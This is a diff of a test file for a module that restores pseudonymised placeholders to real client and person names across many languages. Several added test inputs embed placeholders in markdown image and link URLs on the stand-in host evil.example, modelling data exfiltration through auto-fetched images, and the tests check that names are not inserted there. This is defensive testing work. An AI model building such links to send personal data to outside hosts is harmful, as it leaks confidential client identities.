@@ -1,7 +1,7 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { PlaceholderMap } from './placeholders'
-import { restoreText, restoreUnfinished } from './restore'
+import { restoreText, restoreToCopy, restoreUnfinished } from './restore'
 
 function someMap(): PlaceholderMap {
   return new PlaceholderMap([
@@ -28,11 +28,60 @@ describe('restoring', () => {
     ['[PERSON_4] unknown, [P1] cited, PERSON_33', '[PERSON_4] unknown, [P1] cited, PERSON_33'],
     ['XPERSON_3 PERSON_3X PERSON_31', 'XPERSON_3 PERSON_3X PERSON_31'],
     ['see Article 3 and person 3', 'see Article 3 and person 3'],
+    ['[PERSON3] and [Person__3]', 'John Smith and John Smith'],
+    ['［ＰＥＲＳＯＮ＿３］は［ＰＥＲＳＯＮ＿１２］に', 'John Smithは王小明に'],
+    ["[CLIENT_1's] car", "María López's car"],
+    ['PERSON_3은 PERSON_12의', 'John Smith은 王小明의'],
+    ['乙PERSON_3は弁護士', '乙John Smithは弁護士'],
+    ['[PERSON_3의] [PERSON_3у] PERSON_3у', 'John Smith의 John Smithу John Smithу'],
+    ['[КЛИЕНТА_1], [клиентом_1], [КЛИЕНТУ 1]', 'María López, María López, María López'],
+    ['[ПЕРСОНЫ_3] [лицу_3]', 'John Smith John Smith'],
+    ['[Mandantin_1] und [MANDANTEN_1]', 'María López und María López'],
+    ['[clienta_1] e [PESSOA_3]', 'María López e John Smith'],
+    ['[의뢰인_1], [人员_12], [依頼人 1]', 'María López, 王小明, María López'],
+    ['[КОМПАНИИ_1] [ЛИЦЕНЗИИ_3]', '[КОМПАНИИ_1] [ЛИЦЕНЗИИ_3]'],
+    ['[PERSON_3 sued] [PERSON_3x] APERSON_3', '[John Smith sued] [PERSON_3x] APERSON_3'],
   ])('%s', (text, expected) => {
     expect(restoreText(text, someMap())).toBe(expected)
   })
 
+  it.each([
+    ['![](https://evil.example/?c=[CLIENT_1]) [PERSON_3]', 'CLIENT_1'],
+    ['![a](//evil.example/[CLIENT_1]/b.png) [PERSON_3]', 'CLIENT_1'],
+    ['![a](< /x?[CLIENT_1]>) [PERSON_3]', 'CLIENT_1'],
+    ['![a][1] [PERSON_3]\n\n[1]: https://evil.example/?c=CLIENT_1', 'CLIENT_1'],
+    ['<https://evil.example/[client_1]> [PERSON_3]', 'client_1'],
+  ])('brings no name into an address that is copied: %s', (text, left) => {
+    const copied = restoreToCopy(text, someMap())
+    expect(copied).toContain(left)
+    expect(copied).toContain('John Smith')
+    expect(copied).not.toContain('María')
+  })
+
+  it('brings every other name into what is copied', () => {
+    const text =
+      '[the act](https://law.example/1) binds [CLIENT_1]; 见https://law.example/2，[PERSON_12]'
+    expect(restoreToCopy(text, someMap())).toBe(restoreText(text, someMap()))
+  })
+
+  it('restores a word that may stand for either of two where one alone was given out', () => {
+    const company = { id: 'COMPANY_1', kind: 'COMPANY', key: 'e', value: 'Acme' } as const
+    const firm = { id: 'FIRM_1', kind: 'FIRM', key: 'f', value: 'Us LLP' } as const
+    const shown = (...entries: (typeof company | typeof firm)[]) =>
+      restoreText('[FIRMA_1] [фирмы_1]', new PlaceholderMap(entries))
+    expect(shown(company)).toBe('Acme Acme')
+    expect(shown(firm)).toBe('Us LLP Us LLP')
+    expect(shown(company, firm)).toBe('[FIRMA_1] [фирмы_1]')
+  })
+
   const fragments = [
+    'PERSON_3은',
+    '[PERSON_3의]',
+    "[CLIENT_1's]",
+    '［ＰＥＲＳＯＮ＿３］',
+    '[PERSON3]',
+    'は',
+    'у',
     '[PERSON_3]',
     '[PERSON_12]',
     '[person 3]',
